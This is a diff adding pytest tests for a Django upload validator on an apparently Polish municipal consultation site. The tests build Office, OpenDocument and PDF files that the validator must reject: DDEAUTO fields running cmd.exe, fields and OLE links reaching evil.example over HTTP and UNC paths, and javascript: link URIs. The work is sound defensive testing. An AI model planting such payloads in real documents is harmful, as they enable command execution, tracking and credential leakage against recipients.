@@ -7,7 +7,13 @@ import pytest
 from django.core.exceptions import ValidationError
 from django.core.files.uploadedfile import SimpleUploadedFile
 from pypdf.actions import JavaScript, PageTrigger
-from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
+from pypdf.generic import (
+    ArrayObject,
+    DictionaryObject,
+    NameObject,
+    NumberObject,
+    TextStringObject,
+)
 
 from consultations.demo import tiny_pdf
 from consultations.uploads import check_material_file
@@ -278,3 +284,190 @@ def test_a_chart_s_workbook_inside_a_report_passes_and_is_checked_too():
         **{"xl/vbaProject.bin": crafted.compound_file(crafted.vba_project())}
     )
     assert refusal("raport.docx", with_macros) == f"Plik zawiera makra VBA. {WITHOUT_THEM}"
+
+
+# --- Outside links and DDE (review of issue 7) ---------------------------------------------
+
+
+def odt_frame(element: str, address: str) -> bytes:
+    return crafted.odt(
+        content=f'<text:p><draw:frame svg:width="1cm" svg:height="1cm"><{element} '
+        f'xlink:href="{address}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>'
+        "</draw:frame></text:p>"
+    )
+
+
+def pdf_link(action):
+    def change(writer):
+        annotation = DictionaryObject(
+            {
+                NameObject("/Type"): NameObject("/Annot"),
+                NameObject("/Subtype"): NameObject("/Link"),
+                NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
+                NameObject("/A"): action,
+            }
+        )
+        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
+
+    return crafted.pdf(change)
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "found"),
+    [
+        (
+            "uchwala.docx",
+            crafted.docx(
+                body=crafted.word_field(
+                    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'
+                )
+            ),
+            "polecenia DDE uruchamiające inne programy (DDEAUTO c:\\\\windows\\\\system32\\\\"
+            'cmd.exe "/k calc.exe")',
+        ),
+        (
+            "uchwala.docx",
+            crafted.docx(
+                body=crafted.simple_word_field(
+                    "INCLUDEPICTURE &quot;http://evil.example/track.png&quot; \\d"
+                )
+            ),
+            "odwołania do zewnętrznych zasobów (INCLUDEPICTURE: http://evil.example/track.png)",
+        ),
+        (
+            "uchwala.docx",
+            crafted.docx(body=crafted.word_field('INCLUDETEXT "\\\\\\\\evil.example\\\\x.docx"')),
+            "odwołania do zewnętrznych zasobów (INCLUDETEXT: \\\\\\\\evil.example\\\\x.docx)",
+        ),
+        (
+            "uchwala.docx",
+            crafted.docx(
+                body=crafted.word_field('LINK Excel.Sheet.8 "http://evil.example/a.xls" "A1" \\a')
+            ),
+            "odwołania do zewnętrznych zasobów (LINK: http://evil.example/a.xls)",
+        ),
+        (
+            "uchwala.docx",
+            crafted.docx(
+                relationships=[
+                    (
+                        "rId9",
+                        f"{crafted.RELATIONSHIPS}/oleObject",
+                        "http://evil.example/x.rtf",
+                        "external",
+                    )
+                ]
+            ),
+            "odwołania do zewnętrznych zasobów (oleObject: http://evil.example/x.rtf)",
+        ),
+        (
+            "budzet.xlsx",
+            crafted.xlsx_with_dde_link("cmd", "/c calc.exe"),
+            "polecenia DDE uruchamiające inne programy (cmd /c calc.exe)",
+        ),
+        (
+            "uchwala.odt",
+            odt_frame("draw:image", "http://evil.example/track.png"),
+            "odwołania do zewnętrznych zasobów (draw:image: http://evil.example/track.png)",
+        ),
+        (
+            "uchwala.odt",
+            odt_frame("draw:object", "file://evil.example/share/o"),
+            "odwołania do zewnętrznych zasobów (draw:object: file://evil.example/share/o)",
+        ),
+        (
+            "uchwala.odt",
+            odt_frame("draw:image", "\\\\evil.example\\share\\a.png"),
+            "odwołania do zewnętrznych zasobów (draw:image: \\\\evil.example\\share\\a.png)",
+        ),
+        (
+            "uchwala.odt",
+            crafted.odt(
+                content='<text:section text:name="S"><text:section-source '
+                'xlink:href="http://evil.example/x.odt" xlink:type="simple"/></text:section>'
+            ),
+            "odwołania do zewnętrznych zasobów (text:section-source: http://evil.example/x.odt)",
+        ),
+    ],
+    ids=[
+        "docx-ddeauto",
+        "docx-includepicture",
+        "docx-includetext-unc",
+        "docx-link",
+        "docx-ole-link-lower-case-mode",
+        "xlsx-dde-link",
+        "odt-remote-image",
+        "odt-file-object",
+        "odt-unc-image",
+        "odt-linked-section",
+    ],
+)
+def test_an_office_file_reaching_outside_or_to_a_program_is_refused_naming_it(name, content, found):
+    assert refusal(name, content) == f"Plik zawiera {found}. {WITHOUT_THEM}"
+
+
+@pytest.mark.parametrize(
+    ("action", "found"),
+    [
+        (
+            crafted.action("/URI", URI=TextStringObject("javascript:app.alert(1)")),
+            "skrypty JavaScript",
+        ),
+        (
+            crafted.action("/URI", URI=TextStringObject(" java\tscript:app.alert(1)")),
+            "skrypty JavaScript",
+        ),
+        (
+            crafted.action(
+                "/GoToR",
+                F=TextStringObject("\\\\evil.example\\share\\x.pdf"),
+                D=ArrayObject([NumberObject(0), NameObject("/Fit")]),
+            ),
+            "odnośniki do plików spoza dokumentu (np. na dysku sieciowym)",
+        ),
+        (
+            crafted.action("/URI", URI=TextStringObject("file://evil.example/share/x.pdf")),
+            "odnośniki do plików spoza dokumentu (np. na dysku sieciowym)",
+        ),
+    ],
+    ids=["javascript-uri", "javascript-uri-with-a-tab", "gotor-unc", "file-uri"],
+)
+def test_a_pdf_link_that_runs_a_script_or_reaches_a_network_file_is_refused(action, found):
+    assert refusal("uchwala.pdf", pdf_link(action)) == f"Plik PDF zawiera {found}. {AGAIN_AS_PDF}"
+
+
+def test_a_word_file_with_an_ordinary_link_and_page_numbers_passes():
+    body = (
+        '<w:p><w:hyperlink r:id="rId5"><w:r><w:t>BIP</w:t></w:r></w:hyperlink></w:p>'
+        + crafted.word_field('HYPERLINK "https://bip.czestochowa.pl/"')
+        + crafted.simple_word_field("PAGE")
+    )
+    content = crafted.docx(
+        body=body,
+        relationships=[
+            ("rId5", f"{crafted.RELATIONSHIPS}/hyperlink", "https://bip.czestochowa.pl/", True)
+        ],
+    )
+    assert check_material_file(SimpleUploadedFile("uchwala.docx", content)) == "docx"
+
+
+def test_an_opendocument_file_with_its_own_picture_object_and_a_link_passes():
+    content = crafted.odt(
+        {"Pictures/mapa.png": b"\x89PNG\r\n\x1a\n", "Object 1/content.xml": b"<a/>"},
+        content=(
+            '<text:p><draw:frame svg:width="1cm" svg:height="1cm"><draw:image '
+            'xlink:href="Pictures/mapa.png" xlink:type="simple" xlink:show="embed"/></draw:frame>'
+            '<draw:frame svg:width="1cm" svg:height="1cm"><draw:object xlink:href="./Object 1" '
+            'xlink:type="simple" xlink:show="embed"/></draw:frame>'
+            '<text:a xlink:href="https://bip.czestochowa.pl/">BIP</text:a></text:p>'
+        ),
+    )
+    assert check_material_file(SimpleUploadedFile("uchwala.odt", content)) == "odt"
+
+
+def test_a_pdf_with_web_and_mail_links_passes():
+    def links(writer):
+        writer.add_uri(0, "https://bip.czestochowa.pl/", [50, 50, 200, 80])
+        writer.add_uri(0, "mailto:konsultacje@czestochowa.um.gov.pl", [50, 90, 200, 120])
+
+    assert check_material_file(SimpleUploadedFile("uchwala.pdf", crafted.pdf(links))) == "pdf"
